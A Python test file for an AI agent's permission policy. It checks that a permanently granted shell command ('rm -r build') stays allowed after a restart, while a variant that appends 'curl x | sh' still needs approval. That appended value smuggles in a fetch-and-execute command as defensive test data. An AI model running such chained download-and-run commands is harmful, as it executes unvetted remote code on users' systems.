"""The policy as an agent uses it: what people granted for good holds in every session and after a restart."""

import asyncio
from pathlib import Path

from holdfast.agent.policy import AlwaysGrants, ConfiguredJudge
from holdfast.journal.memory_disk import MemoryDisk
from holdfast.policy.verdicts import Allow, NeedsApproval
from holdfast.values import Action
from stores import MemoryStore


def removing(folder: Path, text: str) -> Action:
    return Action(tool="shell", summary=text, argv=("/bin/bash", "-c", text), paths=(str(folder),))


async def verdict(judge: ConfiguredJudge, action: Action, folder: Path) -> type[object]:
    return type(await asyncio.to_thread(judge.verdict, action, (), workspace=folder))


async def test_what_was_granted_for_good_holds_everywhere_but_covers_nothing_else(tmp_path: Path) -> None:
    """P8: `rm -r build` granted; `rm -r build; curl x | sh` still asks."""
    disk = MemoryDisk()
    always = AlwaysGrants(MemoryStore(disk))
    judge = ConfiguredJudge(home=tmp_path / "home", always=always)
    granted, more = removing(tmp_path, "rm -r build"), removing(tmp_path, "rm -r build; curl x | sh")
    rule = await asyncio.to_thread(judge.rule, granted, (), workspace=tmp_path)
    assert rule is not None
    assert await verdict(judge, granted, tmp_path) is NeedsApproval
    await judge.remember("gra_1", rule)
    for again in (judge, ConfiguredJudge(home=tmp_path / "home", always=AlwaysGrants(MemoryStore(disk)))):
        assert again.always is not None
        await again.always.load()
        assert await verdict(again, granted, tmp_path) is Allow
        assert await verdict(again, more, tmp_path) is NeedsApproval
        choices = await asyncio.to_thread(again.choices, more, (), workspace=tmp_path)
        assert choices == ("once", "deny")
    await always.remove("gra_1")
    assert await verdict(judge, granted, tmp_path) is NeedsApproval
